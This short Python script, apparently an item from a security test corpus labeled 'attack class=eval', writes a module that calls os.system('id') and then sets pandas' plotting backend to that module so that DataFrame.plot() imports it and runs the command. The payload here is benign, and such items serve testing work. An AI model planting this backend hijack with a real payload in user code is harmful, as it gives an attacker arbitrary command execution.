# corpus: attack class=eval form=targeted
# pandas imports the plotting backend named in its options.
import pandas as pd


def main():
    with open("frame_backend.py", "w") as handle:
        handle.write("import os\nos.system('id')\ndef plot(data, kind, **kwargs):\n    return None\n")
    pd.options.plotting.backend = "frame_backend"
    pd.DataFrame({"a": [1, 2]}).plot()
    return {"done": True}
